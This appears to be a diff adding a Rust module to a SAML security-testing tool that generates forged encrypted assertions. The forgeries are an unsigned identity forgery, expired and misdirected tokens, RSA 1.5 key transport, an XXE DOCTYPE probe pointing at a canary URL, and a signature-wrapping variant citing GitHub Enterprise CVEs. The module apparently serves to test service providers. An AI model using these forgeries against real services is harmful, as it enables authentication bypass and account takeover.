@@ -1,0 +1,96 @@
+//! Encrypted assertions. Anyone can encrypt to the SP's published certificate, so encryption
+//! proves nothing about who wrote the plaintext: an unsigned forgery inside EncryptedAssertion,
+//! a stale or misdirected token hidden by encryption, RSA PKCS#1 v1.5 key transport, a DOCTYPE
+//! in the plaintext, and a signed assertion hidden beside a forged plaintext one.
+
+use saml_protocol::xmlenc::{self, KeyTransport};
+
+use crate::bytes::{declares_own_namespace, splice, Doc};
+use crate::family::{evil_id, forge_document, strip_signatures, token, Parts};
+use crate::forge::{Forge, Forged, Skip};
+
+/// `xml` with its (first) Assertion replaced by an EncryptedAssertion of `plaintext(assertion)`
+/// for the SP's certificate.
+fn encrypted(
+    f: &Forge,
+    xml: &str,
+    transport: KeyTransport,
+    plaintext: &dyn Fn(&str) -> String,
+) -> Result<String, Skip> {
+    let cert = f.sp_certificate()?;
+    let doc = Doc::parse_built(xml)?;
+    let assertion = doc.assertion()?;
+    if !declares_own_namespace(doc.src, assertion) {
+        return Err(Skip::NotApplicable(
+            "the Assertion's namespace is declared on the Response; encrypted alone it would be unbound".into(),
+        ));
+    }
+    let sealed = xmlenc::encrypted_assertion(&plaintext(doc.outer(assertion)), cert, transport)
+        .map_err(|e| Skip::Failed(format!("cannot encrypt to the SP certificate: {e}")))?;
+    Ok(splice(doc.src, vec![(assertion.range(), sealed)]))
+}
+
+/// The identity forged, every signature removed, the Assertion encrypted to the SP
+/// (GHES CVE-2024-4985 class: a decrypted assertion taken as authenticated).
+pub fn unsigned_forgery(f: &Forge) -> Result<Forged, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let (whole, swap) = forge_document(&doc);
+    let xml = encrypted(f, &strip_signatures(&whole)?, KeyTransport::RsaOaep, &|a| {
+        a.to_owned()
+    })?;
+    crate::family::forged(xml, swap)
+}
+
+/// A token the IdP signed two hours ago (expired), encrypted to the SP.
+pub fn expired(f: &Forge) -> Result<Forged, Skip> {
+    let stale = token::expired(f)?;
+    let xml = encrypted(f, &stale.xml, KeyTransport::RsaOaep, &|a| a.to_owned())?;
+    Ok(Forged::same_identity(xml))
+}
+
+/// A token the IdP signed for another SP (Audience), encrypted to this one.
+pub fn other_audience(f: &Forge) -> Result<Forged, Skip> {
+    let misdirected = token::other_audience(f)?;
+    let xml = encrypted(f, &misdirected.xml, KeyTransport::RsaOaep, &|a| {
+        a.to_owned()
+    })?;
+    Ok(Forged::same_identity(xml))
+}
+
+/// The IdP's own assertion, its content key sent with RSA PKCS#1 v1.5.
+pub fn rsa_1_5(f: &Forge) -> Result<Forged, Skip> {
+    let xml = encrypted(f, f.seed, KeyTransport::Rsa15, &|a| a.to_owned())?;
+    Ok(Forged::same_identity(xml))
+}
+
+/// The IdP's own assertion encrypted with a DOCTYPE in front whose external parameter entity
+/// is on the canary: a decryptor that parses the plaintext as a document of its own fetches it.
+pub fn doctype_in_plaintext(f: &Forge) -> Result<Forged, Skip> {
+    let canary = &f.canary()?.prefix;
+    let xml = encrypted(f, f.seed, KeyTransport::RsaOaep, &|a| {
+        format!("<!DOCTYPE Assertion [<!ENTITY % probe SYSTEM \"{canary}/decrypted\">%probe;]>{a}")
+    })?;
+    Ok(Forged::same_identity(xml))
+}
+
+/// The signed Assertion encrypted, and a forged unsigned copy (new ID) in plaintext before
+/// it (GHES CVE-2024-9487: the decrypted assertion's signature checked, the plaintext read).
+pub fn wrapped(f: &Forge) -> Result<Forged, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    p.need_assertion_sig()?;
+    let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
+    if !declares_own_namespace(doc.src, p.assertion) {
+        return Err(Skip::NotApplicable(
+            "the Assertion's namespace is declared on the Response; encrypted alone it would be unbound".into(),
+        ));
+    }
+    let sealed = xmlenc::encrypted_assertion(
+        doc.outer(p.assertion),
+        f.sp_certificate()?,
+        KeyTransport::RsaOaep,
+    )
+    .map_err(|e| Skip::Failed(format!("cannot encrypt to the SP certificate: {e}")))?;
+    let edits = vec![(p.assertion.range(), format!("{evil}{sealed}"))];
+    crate::family::forged(p.splice_unsigned_response(edits), swap)
+}
